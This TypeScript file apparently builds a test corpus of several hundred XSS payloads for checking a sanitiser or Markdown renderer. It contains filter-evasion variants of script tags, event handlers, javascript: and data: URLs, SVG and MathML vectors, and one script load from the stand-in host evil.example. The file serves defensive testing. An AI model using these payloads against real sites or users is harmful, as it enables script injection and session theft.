/**
 * A corpus of XSS payloads for the hostile suites: hand-written vectors (script tags,
 * event handlers, javascript: and data: URLs in every case mix and entity encoding,
 * SVG, MathML, iframes, objects, CSS, Markdown links and autolinks), each also sent in
 * the variants attackers use to slip past filters. Over 300 distinct strings.
 */
const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "JAVASCRIPT:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "jav&#x09;ascript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:msgbox(1)",
  "VbScRiPt:msgbox(1)",
];

const ELEMENT_VECTORS = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<script/x>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC="data:text/html,<script>alert(1)</script>">',
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<div onmouseover=alert(1)>hover</div>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<style>@import 'javascript:alert(1)';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<link rel=stylesheet href=javascript:alert(1)>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<base href=javascript:alert(1)//>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<a href=x onclick=alert(1)>x</a>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "<template><script>alert(1)</script></template>",
  "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
  "{{constructor.constructor('alert(1)')()}}",
];

/** Markdown forms a post can use to smuggle a URL into a link or an image. */
function markdownVectors(url: string): string[] {
  return [`[click me](${url})`, `![pic](${url})`, `<${url}>`, `[x][ref]\n\n[ref]: ${url}`];
}

function caseMixed(text: string): string {
  return [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join("");
}

export function buildXssCorpus(): string[] {
  const corpus = new Set<string>();
  for (const vector of ELEMENT_VECTORS) {
    corpus.add(vector);
    corpus.add(caseMixed(vector));
    corpus.add(`Ordinary words before ${vector} and after`);
    corpus.add(`**${vector}**`);
    corpus.add(`- item\n- ${vector}`);
  }
  for (const scheme of SCHEMES) {
    for (const vector of markdownVectors(scheme)) corpus.add(vector);
    corpus.add(`<a href="${scheme}">link</a>`);
    corpus.add(`<img src="${scheme}">`);
  }
  return [...corpus];
}
